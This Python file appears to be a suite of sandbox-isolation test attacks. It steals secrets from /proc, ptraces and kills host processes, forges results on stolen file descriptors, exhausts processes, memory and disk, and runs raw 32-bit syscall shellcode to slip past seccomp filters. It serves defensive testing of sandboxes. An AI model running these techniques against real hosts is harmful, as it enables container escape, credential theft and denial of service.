"""The programs of the attacks: ``python3 programs.py NAME``, options as JSON on its input, findings as JSON.

They run inside a sandbox, without this package, by its own ``python3``. Each attack is a function of its name that
returns its findings: what it read, changed or reached.
"""

import array
import contextlib
import ctypes
import fcntl
import glob
import json
import mmap
import os
import platform
import signal
import socket
import stat
import struct
import sys
import threading
import time
from collections.abc import Iterable, Iterator
from typing import Any

# Attacks on the host: its secrets, files, processes and sockets.


def _paths(options: dict[str, Any]) -> Iterator[str]:
    """Yield the host's path itself, and through roots and folders of processes that may be outside."""
    path = options["path"]
    yield path
    for pid in ("1", str(os.getppid()), str(options["victim"])):
        yield f"/proc/{pid}/root{path}"
        yield f"/proc/{pid}/cwd{path}"
    yield "../" * 12 + path.lstrip("/")


def environment(options: dict[str, Any]) -> list[str]:
    """Look for the host's secret in the own environment."""
    return [name for name, value in os.environ.items() if options["secret"] in value]


def process_environments(options: dict[str, Any]) -> list[str]:
    """Look for the host's secret in the environment of every process that can be seen."""
    return _files_with(options["secret"], glob.glob("/proc/[0-9]*/environ"))


def read_file(options: dict[str, Any]) -> list[str]:
    """Read a file of the host."""
    return _files_with(options["secret"], _paths(options))


def see_processes(options: dict[str, Any]) -> list[str]:
    """Find a process of the host by its command line."""
    return _files_with(options["mark"], glob.glob("/proc/[0-9]*/cmdline"))


def change_mode(options: dict[str, Any]) -> list[str]:
    """Set the mode of a host file, to what it is."""
    findings = []
    for path in _paths(options):
        with contextlib.suppress(OSError):
            os.chmod(path, stat.S_IMODE(os.stat(path).st_mode))
            findings.append(path)
    return findings


def _files_with(text: str, paths: Iterable[str]) -> list[str]:
    findings = []
    for path in paths:
        with contextlib.suppress(OSError), open(path, "rb") as file:
            if text.encode() in file.read():
                findings.append(path)
    return findings


def write_file(options: dict[str, Any]) -> list[str]:
    """Append to a file of the host, and make one beside it. The host checks whether it worked."""
    findings = []
    for path in _paths(options):
        with contextlib.suppress(OSError), open(path, "ab", opener=_no_create) as file:
            file.write(b"attacked")
            findings.append(path)
        with contextlib.suppress(OSError), open(path + ".new", "xb"):
            findings.append(path + ".new")
    return findings


def _no_create(path: str, flags: int) -> int:
    return os.open(path, flags & ~os.O_CREAT)


def signal_host(options: dict[str, Any]) -> list[str]:
    """Kill a process of the host by its number. The host checks whether it lives."""
    try:
        os.kill(options["victim"], signal.SIGKILL)
    except OSError:
        return []
    return [f"kill({options['victim']}, SIGKILL) was accepted"]


def outlive(options: dict[str, Any]) -> list[str]:
    """Write lines, for half a minute at most, in a process whose first thread has ended."""
    if os.fork() == 0:
        os.setsid()
        signal.alarm(30)
        threading.Thread(target=_write_lines, args=(options["output"], options["end"])).start()
        ctypes.CDLL(None).syscall({"x86_64": 60, "aarch64": 93}[platform.machine()], 0)  # exit of one thread
    time.sleep(60)
    return []


def _write_lines(path: str, end: str) -> None:
    """Write lines until a file exists."""
    while not os.path.exists(end):
        with open(path, "a") as file:
            file.write("\n")
        time.sleep(0.05)


def trace(options: dict[str, Any]) -> list[str]:
    """Trace a process of the host, and read its memory."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    pid, findings = options["victim"], []
    if libc.ptrace(0x4206, pid, None, None) == 0:  # PTRACE_SEIZE, which does not stop it
        findings.append(f"ptrace({pid})")
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "rb"):
        findings.append(f"/proc/{pid}/mem was opened")
    return findings


def tcp(options: dict[str, Any]) -> list[str]:
    """Connect to a server of the host on its loopback, by another protocol or with flags where options name them."""
    findings, flags, line = [], options.get("flags", 0), options["mark"].encode() + b"\n"
    for host in ("127.0.0.1", "localhost", *options["addresses"]):
        address = (host, options["ports"]["tcp"])
        with contextlib.suppress(OSError), socket.socket(proto=options.get("protocol", 0)) as connection:
            connection.settimeout(1.0)
            if not flags:
                connection.connect(address)
            connection.sendto(line, flags, address)
            findings.append(f"{host}:{address[1]}")
    return findings


def udp(options: dict[str, Any]) -> list[str]:
    """Send a datagram to the host's loopback. Only the host can tell whether it arrived."""
    for host in ("127.0.0.1", *options["addresses"]):
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(options["mark"].encode(), (host, options["ports"]["udp"]))
    return []


def unix(options: dict[str, Any]) -> list[str]:
    """Connect to a unix socket of the host: an abstract name, or a path."""
    name = options["sockets"][options["kind"]]
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
        client.settimeout(1.0)
        client.connect("\0" + name[1:] if name.startswith("@") else name)
        client.sendall(options["mark"].encode() + b"\n")
        return [name]
    return []


def interfaces(options: dict[str, Any]) -> list[str]:
    """List network interfaces that are up and no loopback."""
    del options
    findings: list[str] = []
    try:
        names = [name for _, name in socket.if_nameindex()]
    except OSError:
        return findings
    for name in names:
        request = struct.pack("16sh14x", name.encode(), 0)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe, contextlib.suppress(OSError):
            flags = struct.unpack("16xh14x", fcntl.ioctl(probe, 0x8913, request))[0]  # SIOCGIFFLAGS
            if flags & 1 and not flags & 8:  # IFF_UP, IFF_LOOPBACK
                findings.append(name)
    return findings


def forge(options: dict[str, Any]) -> list[str]:
    """Write forged answers of the process that runs commands into every reachable descriptor, then exit with 7.

    Process 1 and the parent are attacked only inside a process namespace: elsewhere they are the host's.
    """
    for number in range(200):
        forged = b'{"id": %d, "exit": 0, "code": 0, "exit_code": 0, "status": 0, "event": "exit"}' % number
        for descriptor in _descriptors(options):
            with contextlib.suppress(OSError):
                os.set_blocking(descriptor, False)
                os.write(descriptor, forged + (b"\n" if number % 2 else b""))
                _send_descriptors(descriptor, forged)
    if options["inside"]:
        for pid in {1, os.getppid()} - {os.getpid()}:
            for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, signal.SIGINT):
                with contextlib.suppress(OSError):
                    os.kill(pid, number)
    os._exit(7)


def _descriptors(options: dict[str, Any]) -> list[int]:
    descriptors = (
        [int(name) for name in os.listdir("/proc/self/fd")] if os.path.isdir("/proc/self/fd") else list(range(64))
    )
    descriptors = [number for number in descriptors if number > 2]
    if options["inside"]:
        for pid in {1, os.getppid()}:
            for path in glob.glob(f"/proc/{pid}/fd/*"):
                with contextlib.suppress(OSError):
                    descriptors.append(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
            descriptors += _steal_descriptors(pid)
    return descriptors


def _steal_descriptors(pid: int) -> list[int]:
    """Copy descriptors of another process by pidfd_getfd, where allowed."""
    libc, descriptors = ctypes.CDLL(None, use_errno=True), []
    try:
        pidfd = os.pidfd_open(pid)
    except OSError:
        return []
    for number in range(3, 64):
        copied = libc.syscall(438, pidfd, number, 0)
        if copied >= 0:
            descriptors.append(copied)
    return descriptors


def _send_descriptors(descriptor: int, data: bytes) -> None:
    if not stat.S_ISSOCK(os.fstat(descriptor).st_mode):
        return
    with socket.socket(fileno=os.dup(descriptor)) as channel:
        rights = array.array("i", [0, 1])
        channel.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)], socket.MSG_DONTWAIT)


# Attacks on the limits of processes, memory and disk. Each is bounded, and frees all that it took.


def fork_bomb(options: dict[str, Any]) -> list[str]:
    """Fork three times the processes that the limit allows, and count how many stay alive together for a while."""
    limit, count = options["limit"], _hold(options["most"], 0, options["seconds"])
    # A backend may grant a few for its own processes inside.
    return [f"{count} processes, more than the limit of {limit}"] if count > limit * 1.25 else []


def memory(options: dict[str, Any]) -> list[str]:
    """Hold memory in several processes at the same time: more together than the limit, or more in one than it."""
    limit, size = options["limit"], options["size"]
    total = size * _hold(options["count"], size, options["seconds"])
    return [f"{total >> 20} MiB at the same time, and {limit >> 20} are allowed"] if total > limit * 1.1 else []


def _hold(count: int, size: int, seconds: float) -> int:
    """Fork processes that take memory; return how many hold theirs at the same time, for some seconds.

    A periodic check of a limit has time to see them. They end with this process, at the latest after their alarm.
    """
    holding, release = os.pipe()
    reading, writing = os.pipe()
    os.set_blocking(reading, False)
    alive: set[int] = set()
    for _ in range(count):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.close(release)
            signal.alarm(30)
            _hold_memory(size, writing, holding)
        alive.add(pid)
    touched: set[int] = set()
    patience, until = time.monotonic() + 20, 0.0
    while alive and (not until or time.monotonic() < until):
        alive -= {pid for pid in alive if os.waitpid(pid, os.WNOHANG)[0]}
        with contextlib.suppress(BlockingIOError):
            touched |= {int(line) for line in os.read(reading, 65_536).split()}
        if not until and alive <= touched:
            until = time.monotonic() + seconds
        if not until and time.monotonic() > patience:
            raise SystemExit("the machine is too busy to tell")
        time.sleep(0.05)
    os.close(release)
    for pid in alive:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
    return len(alive & touched)


def _hold_memory(size: int, writing: int, holding: int) -> None:
    with contextlib.suppress(MemoryError):
        block = bytearray(size)
        for at in range(0, size, 4096):
            block[at] = 1
        os.write(writing, b"%d\n" % os.getpid())
        os.read(holding, 1)
    os._exit(0)


def one_file(options: dict[str, Any]) -> list[str]:
    """Write one file that is larger than the limit."""
    limit, written = options["limit"], _fill(options["most"], options["most"], [options["folder"]])
    return [f"a file of {size >> 20} MiB, and {limit >> 20} are allowed" for size in written.values() if size > limit]


def many_files(options: dict[str, Any]) -> list[str]:
    """Write many files, wherever that is possible, of more bytes together than the limit."""
    written = _fill(options["size"], options["most"], options["folders"])
    total, limit = sum(written.values()), options["limit"]
    where = ", ".join(f"{folder} {size >> 20}" for folder, size in written.items() if size)
    return [f"{total >> 20} MiB ({where}), and {limit >> 20} are allowed"] if total >= options["most"] else []


def _fill(size: int, most: int, folders: list[str]) -> dict[str, int]:
    """Write files of a size until there are ``most`` bytes, then remove them; return the bytes by folder."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    written = dict.fromkeys(folders, 0)
    paths: list[str] = []
    for folder in folders:
        # A file that cannot be written to its end is the last of its folder.
        with contextlib.suppress(OSError):
            while sum(written.values()) < most:
                paths.append(os.path.join(folder, f"fill-{len(paths)}"))
                with open(paths[-1], "xb", buffering=0) as file:
                    for _ in range(size >> 20):
                        written[folder] += file.write(bytes(2**20))
    for path in paths:
        with contextlib.suppress(OSError):
            os.remove(path)
    return written


def hoard(options: dict[str, Any]) -> list[str]:
    """Hold all inotify instances and all room in pipes that this user may have, until a file exists."""
    signal.alarm(30)
    libc = ctypes.CDLL(None)
    instances = 0
    while instances < 1000 and libc.inotify_init() >= 0:
        instances += 1
    for _ in range(200):  # the first are large, until only small ones are left
        with contextlib.suppress(OSError):
            fcntl.fcntl(os.pipe()[0], 1031, 2**20)  # F_SETPIPE_SZ
    _write_lines(options["output"], options["end"])
    return []


def scarce(options: dict[str, Any]) -> list[str]:
    """Return what this user can no longer have: an inotify instance, a pipe of the usual size."""
    del options
    reading, _ = os.pipe()
    size = fcntl.fcntl(reading, 1032)  # F_GETPIPE_SZ
    findings = [f"a pipe holds {size} bytes"] if size < 2**16 else []
    return findings if ctypes.CDLL(None).inotify_init() >= 0 else [*findings, "no inotify instance is left"]


# Attacks on the kernel's interfaces. Each opens or creates something, and undoes it at once.

_KEYCTL = {"x86_64": 250, "aarch64": 219}
_NAMESPACES = {"user": 0x10000000, "mount": 0x00020000, "net": 0x40000000, "pid": 0x20000000}


def settings(options: dict[str, Any]) -> list[str]:
    """Open settings of the kernel for writing; nothing is written."""
    del options
    names = ("core_pattern", "modprobe", "hostname", "core_uses_pid")
    paths = [f"/proc/sys/kernel/{name}" for name in names]
    paths += ["/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"]
    return _opened(paths, os.O_WRONLY | os.O_APPEND)


def _opened(paths: Iterable[str], flags: int) -> list[str]:
    """Return the paths that can be opened."""
    findings = []
    for path in paths:
        with contextlib.suppress(OSError):
            os.close(os.open(path, flags))
            findings.append(path)
    return findings


def keyrings(options: dict[str, Any]) -> list[str]:
    """Ask for keyrings, which are shared with processes of the same user or session outside."""
    del options
    keyctl = _KEYCTL.get(platform.machine())
    if keyctl is None:
        raise SystemExit(f"the system calls of {platform.machine()} are not known to this attack")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    findings = []
    for name, keyring in (("session", -3), ("user", -4), ("user session", -5)):
        if libc.syscall(keyctl, 0, ctypes.c_long(keyring), 0) > 0:  # KEYCTL_GET_KEYRING_ID
            findings.append(f"the {name} keyring")
    return findings


def namespaces(options: dict[str, Any]) -> list[str]:
    """Make namespaces, each in a child that ends at once."""
    del options
    findings = []
    for name, flag in _NAMESPACES.items():
        if _in_child(lambda flag=flag: ctypes.CDLL(None, use_errno=True).unshare(flag) == 0):
            findings.append(f"unshare of the {name} namespace")
    return findings


def mounts(options: dict[str, Any]) -> list[str]:
    """Mount a file system over a folder, directly and in a user namespace; it is unmounted at once."""
    folder = os.path.join(options["folder"], "mounted")
    os.makedirs(folder, exist_ok=True)
    findings = []

    def mount() -> bool:
        libc = ctypes.CDLL(None, use_errno=True)
        mounted = libc.mount(b"none", folder.encode(), b"tmpfs", 0, None) == 0
        if mounted:
            libc.umount2(folder.encode(), 2)
        return bool(mounted)

    def in_namespace() -> bool:
        return ctypes.CDLL(None, use_errno=True).unshare(0x10000000 | 0x00020000) == 0 and mount()

    if _in_child(mount):
        findings.append("mount of a tmpfs")
    if _in_child(in_namespace):
        findings.append("mount of a tmpfs in a user namespace")
    return findings


def machine_sockets(options: dict[str, Any]) -> list[str]:
    """Make sockets of families that no namespace divides: the hypervisor's, and those of the kernel's ciphers."""
    del options
    findings = []
    for name, family, kind in (("AF_VSOCK", 40, socket.SOCK_STREAM), ("AF_ALG", 38, socket.SOCK_SEQPACKET)):
        with contextlib.suppress(OSError):
            socket.socket(family, kind).close()
            findings.append(name)
        if platform.machine() == "x86_64" and _in_child(
            lambda family=family, kind=kind: _has_32bit_socket(family, kind)
        ):
            findings.append(f"{name} by a 32-bit call")
    return findings


def _has_32bit_socket(family: int, kind: int) -> bool:
    """Make a socket by the kernel's interface for 32-bit programs, whose numbers a filter may not know."""
    memory = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, 7)  # MAP_32BIT; may be executed
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    # push rbx; eax = 102 (socketcall); ebx = 1 (socket); ecx = its arguments; int 0x80; pop rbx; ret
    code = struct.pack("<2sIsIsI4s", b"\x53\xb8", 102, b"\xbb", 1, b"\xb9", address + 64, b"\xcd\x80\x5b\xc3")
    memory[:128] = code.ljust(64, b"\0") + struct.pack("<3I", family, kind, 0).ljust(64, b"\0")
    return bool(ctypes.CFUNCTYPE(ctypes.c_int)(address)() >= 0)


def devices(options: dict[str, Any]) -> list[str]:
    """Open devices of the machine for reading, and make a node of the device that is its memory."""
    names = ("mem", "kmsg", "sda", "vda", "nvme0n1", "loop0", "kvm", "fuse")
    findings = _opened((f"/dev/{name}" for name in names), os.O_RDONLY | os.O_NONBLOCK)
    path = os.path.join(options["folder"], "node")
    with contextlib.suppress(OSError):
        os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 1))
        try:
            os.close(os.open(path, os.O_RDONLY))
            findings.append("mknod of /dev/mem")
        finally:
            os.remove(path)
    return findings


def _in_child(attempt: Any) -> bool:
    """Return whether an attempt succeeds in its own process."""
    pid = os.fork()
    if pid == 0:
        code = 1
        with contextlib.suppress(OSError):
            code = 0 if attempt() else 1
        os._exit(code)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0


def main() -> None:
    """Run the attack named on the command line."""
    _write_line("begun")
    findings = globals()[sys.argv[1]](json.load(sys.stdin))
    _write_line(json.dumps({"findings": findings}))


def _write_line(line: str) -> None:
    sys.stdout.write(line + "\n")
    sys.stdout.flush()


if __name__ == "__main__":
    main()
